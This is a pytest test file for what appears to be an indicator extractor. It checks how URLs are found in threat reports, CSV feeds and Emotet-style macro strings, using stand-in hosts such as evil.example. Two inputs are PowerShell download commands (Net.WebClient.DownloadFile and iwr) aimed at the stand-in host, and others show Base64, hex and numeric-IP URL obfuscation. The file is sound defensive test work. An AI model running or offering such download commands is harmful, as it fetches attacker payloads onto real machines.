"""Where a URL begins and ends."""

from __future__ import annotations

import pytest

from tests.indicators.extraction.cases import found

A = "http://evil.example/a"


@pytest.mark.parametrize(
    "text",
    [
        "http://evil.example/a.",
        "http://evil.example/a,",
        "http://evil.example/a;",
        "http://evil.example/a:",
        "http://evil.example/a!",
        "http://evil.example/a?",
        "(http://evil.example/a)",
        "(http://evil.example/a).",
        "[http://evil.example/a]",
        "<http://evil.example/a>",
        "{http://evil.example/a}",
        '"http://evil.example/a"',
        "'http://evil.example/a'",
        "`http://evil.example/a`",
        "“http://evil.example/a”",
        "‘http://evil.example/a’",
        "«http://evil.example/a»",
        "「http://evil.example/a」",
        "『http://evil.example/a』",
        "（http://evil.example/a）",
        "＜http://evil.example/a＞",
        "http://evil.example/a＜",
        "http://evil.example/a。次の文",
        "http://evil.example/a、次の語",
        "接続先はhttp://evil.example/aです",
        "URL：http://evil.example/a",
        "http://evil.example/a\u00a0next",
        "http://evil.example/a\u3000次",
        "http://evil.example/a<br>next",
        "http://evil.example/a|Emotet|",
        "|http://evil.example/a|Emotet|",
        "| http://evil.example/a | Emotet |",
        "[link](http://evil.example/a)",
        '[link](http://evil.example/a "title")',
        "**http://evil.example/a**",
        "_http://evil.example/a_",
        "http://evil.example/a,False,False",
        "2020-07-22,http://evil.example/a,online,emotet",
        "http://evil.example/a,online,malware",
        "(New-Object Net.WebClient).DownloadFile('http://evil.example/a',$p)",
        'iwr "http://evil.example/a" -OutFile x',
        "xhttp://evil.example/a",
        "http://evil.example/a\n\nNext paragraph",
        "http://evil.example/a…",
        "http://evil.example/a\tx",
        "http://evil.example/a\\x",
        "http://evil.example/a^",
        "url=http://evil.example/a",
    ],
)
def test_boundaries(text: str) -> None:
    """Punctuation, quotes of all kinds, Japanese, Markdown, CSV and code end a URL."""
    assert [f"url {A}"] == found(text)


@pytest.mark.parametrize(
    "url",
    [
        "http://evil.example/a,b,c.html",
        "http://evil.example/?q=1,2,3&b=4",
        "http://evil.example/a(b)c",
        "http://evil.example/wiki/A_(b)",
        "http://evil.example/?a[]=1&a[]=2",
        "http://evil.example/a;jsessionid=1?x=y",
        "http://evil.example/~user/a%20b.php",
        "http://evil.example/a#fragment",
        "http://evil.example:8080/a",
        "http://evil.example?x=1",
        "http://evil.example",
        "http://evil.example/",
        "http://user:secret@evil.example/a",
        "http://192.0.2.1/a",
        "http://192.0.2.1:8080/a",
        "http://[2001:db8::1]/a",
        "http://[2001:db8::1]:8080/a",
        "https://xn--wgv71a119e.jp/a",
        "https://日本語.example/a",
        "http://evil.example/?u=http://other.example/b",
        "https://web.archive.org/web/2020/http://evil.example/b",
        "http://evil.example/@user/a",
        "http://evil.example/a!b*c$d",
        "http://evil.example/?id={{ad.id}}&x=1",
        "http://evil.example/index.php?a=b==",
        "http://evil.example/wp-includes/9fTzqE/",
    ],
)
def test_what_belongs_to_a_url(url: str) -> None:
    """Commas, balanced brackets, parameters, ports, users: the URL stays whole."""
    assert [f"url {url}"] == found(f"see {url} now")


@pytest.mark.parametrize("glue", ["@", "*", "!", "|", ",", ";", "", "\n", " ", "','"])
def test_lists_of_urls(glue: str) -> None:
    """As Emotet's macros carry them: one string, split by a sign or by nothing."""
    urls = ["http://a.example/x/", "https://b.example/y/z/", "http://c.example/w/"]
    assert [f"url {url}" for url in urls] == found(f"$u='{glue.join(urls)}'")


@pytest.mark.parametrize("glue", ["@", "*", "!", "|"])
def test_lists_of_defanged_urls(glue: str) -> None:
    """The same, defanged."""
    assert ["url http://a.example/x", "url http://b.example"] == found(
        f"hxxp://a[.]example/x{glue}hxxp://b[.]example"
    )


def test_a_list_of_hosts_without_glue() -> None:
    """A second scheme right behind a host."""
    assert ["url http://a.example", "url http://b.example/c"] == found("http://a.examplehttp://b.example/c")


@pytest.mark.parametrize(
    ("url", "text"),
    [
        ("http://evil.example/a/b/c.php", "http://evil.example/a\n/b/c.php"),
        ("http://evil.example/a/b/c.php", "http://evil.example/a/\r\n  b/c.php\r\n"),
        ("http://evil.example/a?x=1&y=2", "http://evil.example/a?x=1\n&y=2\n"),
        ("http://evil.example/a?x=12", "http://evil.example/a?x=\n12\n"),
        ("http://evil.example/a-b", "<http://evil.example/a-\n b>"),
        ("http://evil.example/a/b/c", "hxxp://evil[.]example/a\n    /b\n    /c\n"),
    ],
)
def test_urls_over_lines(url: str, text: str) -> None:
    """A line that is nothing but the rest of the URL belongs to it."""
    assert [f"url {url}"] == found(text)


@pytest.mark.parametrize(
    ("expected", "text"),
    [
        (["url http://evil.example/x/"], "http://evil.example/x/\nNext sentence is here."),
        (["url http://evil.example/x/"], "http://evil.example/x/\nword\n"),
        (["url http://a.example/x", "url http://b.example/y"], "http://a.example/x\nhttp://b.example/y\n"),
        (["url http://a.example/x", "url b.example/y"], "http://a.example/x\nb.example/y\n"),
        (["url http://a.example/x", "ip 192.0.2.1"], "http://a.example/x\n192.0.2.1\n"),
        (["url http://a.example/x", "domain b.example"], "http://a.example/x\nb.example\n"),
        (["url http://a.example/x"], "http://a.example/x\n---\n"),
        (["url http://a.example/x"], "http://a.example/x\n## Heading\n"),
    ],
)
def test_the_next_line_is_not_swallowed(expected: list[str], text: str) -> None:
    """Lists and paragraphs below a URL stay what they are."""
    assert expected == found(text)


@pytest.mark.parametrize(
    ("value", "text"),
    [
        ("evil.example/a.php", "evil.example/a.php"),
        ("evil.example/a.php", "evil[.]example/a.php"),
        ("www.evil.co.jp/a?b=1", "www[.]evil[.]co[.]jp/a?b=1"),
        ("evil.example:8080/a", "evil.example:8080/a"),
        ("192.0.2.1/a.php", "192.0.2.1/a.php"),
        ("192.0.2.1:8080/a", "192[.]0[.]2[.]1:8080/a"),
        ("evil.example?x=1", "evil[.]example?x=1"),
    ],
)
def test_urls_without_scheme(value: str, text: str) -> None:
    """A host with a path is a URL too; no scheme is invented."""
    assert [f"url {value}"] == found(text)


@pytest.mark.parametrize(
    ("value", "text"),
    [
        ("http://192.0.2.1/cc.html", "http://0xc0000201/cc.html"),
        ("http://192.0.2.1/cc.html", "http://0xc0.0x00.0x02.0x01/cc.html"),
        ("http://192.0.2.1/cc.html", "http://3221225985/cc.html"),
        ("http://evil.example/a", "http%3A%2F%2Fevil.example%2Fa"),
        ("https://evil.example/a", "https%3a%2f%2fevil.example%2fa"),
        ("http://evil.example/a", "687474703a2f2f6576696c2e6578616d706c652f61"),
        ("http://evil.example/a", "687474703A2F2F6576696C2E6578616D706C652F61"),
        ("http://evil.example/a", "aHR0cDovL2V2aWwuZXhhbXBsZS9h"),
        ("https://evil.example/", "aHR0cHM6Ly9ldmlsLmV4YW1wbGUv"),
        ("http://evil.example/a", "aHR0cDovL2V2\naWwuZXhhbXBsZS9h"),
        ("http://evil.example/a", "aAB0AHQAcAA6AC8ALwBlAHYAaQBsAC4AZQB4AGEAbQBwAGwAZQAvAGEA"),
    ],
)
def test_encoded_urls(value: str, text: str) -> None:
    """Per cent, hexadecimal digits, Base64 (wrapped, UTF-16), and hosts as numbers; always defanged."""
    assert [f"url {value}"] == found(f"x {text} y")


@pytest.mark.parametrize(
    "text",
    [
        "http://localhost/a",
        "http://server/share",
        "http://foo.local/x",
        "http://printer.lan/",
        "http://",
        "http:// nothing",
        "http://.../",
        "://evil",
        "foo://bar",
        "C://Windows//System32",
        "http://12/",
        "and/or 24/7 TCP/IP",
        "https://www.virustotal.com/gui/home",
        "https://attack.mitre.org/techniques",
    ],
)
def test_no_urls(text: str) -> None:
    """Internal names, remains, unknown protocols, and ordinary links to reference sites."""
    assert [] == found(text)
